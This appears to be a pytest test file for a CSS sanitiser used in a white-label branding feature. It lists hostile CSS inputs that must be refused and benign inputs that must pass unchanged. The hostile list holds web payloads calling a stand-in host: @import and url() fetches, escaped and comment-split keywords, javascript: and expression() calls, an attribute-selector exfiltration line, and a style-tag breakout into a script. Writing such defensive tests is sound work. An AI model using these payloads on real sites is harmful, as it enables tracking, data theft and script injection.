"""Custom CSS: hostile inputs are refused with a reason, whatever escapes or comments hide them; benign CSS is kept
byte for byte."""

import pytest

from whitelabel.brands.css import css_sanitise
from whitelabel.brands.exceptions import BrandCssInvalid

HOSTILE = {
    "import": '@import "https://evil.test/x.css";',
    "import_url": "@import url(/ours.css);",
    "import_escaped_keyword": '@\\69mport "x.css";',
    "import_escaped_at_sign": "a { b: \\40 import }",
    "import_in_comment_split": "@im/**/port 'x.css';",
    "import_nested": "@media screen { @import 'x.css'; }",
    "url_other_host": "a { background: url(https://evil.test/track.png) }",
    "url_protocol_relative": "a { background: url(//evil.test/t.png) }",
    "url_backslash_host": "a { background: url('/\\\\evil.test/t.png') }",
    "url_tab_hidden_host": "a { background: url('/\t/evil.test/t.png') }",
    "url_data": "a { background: url(data:image/png;base64,AAAA) }",
    "url_escaped_name": "a { background: u\\rl(http://evil.test/t.png) }",
    "url_escaped_scheme": "a { background: url(\\68ttp://evil.test/t.png) }",
    "url_uppercase": "a { background: URL(http://evil.test/t.png) }",
    "url_escaped_newline_in_string": "a { background: url('/\\\n/evil.test/t.png') }",
    "namespace_url": "@namespace svg url(http://evil.test/ns);",
    "url_quoted": "a { background: url(\"http://evil.test/t.png\") }",
    "image_set": 'a { background: image-set("https://evil.test/t.png" 1x) }',
    "font_face_src": "@font-face { font-family: x; src: url(https://evil.test/f.woff2) }",
    "attribute_exfiltration": 'input[value^="a"] { background: url(https://evil.test/?a) }',
    "expression": "a { width: expression(alert(1)) }",
    "expression_escaped": "a { width: ex\\70ression(alert(1)) }",
    "expression_comment_split": "a { width: ex/**/pression(alert(1)) }",
    "behavior": "a { behavior: url(/x.htc) }",
    "behavior_escaped": "a { be\\68 avior: url(/x.htc) }",
    "moz_binding": "a { -moz-binding: url(/x.xml#x) }",
    "javascript_url": "a { background: url('javascript:alert(1)') }",
    "javascript_escaped": "a { background: url('java\\73 cript:alert(1)') }",
    "javascript_in_string": "a { cursor: image('javascript:alert(1)') }",
    "close_style": "a { color: red } </style><script>alert(1)</script>",
    "close_style_uppercase": "a{color:red}</STYLE >",
    "html_comment": "<!-- a { color: red } -->",
    "nul": "a { color: red }\x00",
    "unbalanced": "a { color: red; } }",
    "bad_url": "a { background: url(/a b.png) }",
}

BENIGN = {
    "plain": "a { color: #1f4b99; }",
    "relative_url": ".hero { background: url(/media/brands/logos/hero.png) no-repeat; }",
    "relative_url_quoted": ".hero { background-image: url('img/hero.png'); }",
    "parent_path": ".x { background: url(../x.png) }",
    "media_range": "@media (width < 600px) { .nav { display: none } }",
    "media_range_equal": "@media (width <= 600px) { .nav { display: none } }",
    "custom_properties": ":root { --brand: #ffcc00; --gap: 4px }\n.btn { color: var(--brand) }",
    "comment": "/* our colours */\n.btn:hover { color: #000 }",
    "nested": ".card { & .title { font-weight: 600 } }",
    "keyframes": "@keyframes pulse { from { opacity: 1 } to { opacity: .5 } }",
    "content_string": '.tag::before { content: "\\2014  " }',
    "class_named_like_a_word": ".important-notice { color: red }",
    "crlf": "a {\r\n  color: red;\r\n}\r\n",
}


@pytest.mark.parametrize("css", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_css_is_refused_with_a_reason(css):
    with pytest.raises(BrandCssInvalid) as refused:
        css_sanitise(css)

    assert refused.value.code == "brand_css_invalid"
    assert refused.value.status == 400
    assert refused.value.details["reason"]


@pytest.mark.parametrize("css", BENIGN.values(), ids=BENIGN.keys())
def test_benign_css_is_kept_byte_for_byte(css):
    assert css_sanitise(css) == css


def test_css_over_the_size_limit_is_refused_with_its_size(settings):
    settings.BRAND_CSS_MAX_BYTES = 100
    css = "a { color: red }\n" * 10

    with pytest.raises(BrandCssInvalid) as refused:
        css_sanitise(css)

    assert "170 bytes" in refused.value.details["reason"]


def test_css_at_the_size_limit_is_kept(settings):
    settings.BRAND_CSS_MAX_BYTES = 170

    assert css_sanitise("a { color: red }\n" * 10) == "a { color: red }\n" * 10


def test_empty_css_is_kept():
    assert css_sanitise("") == ""
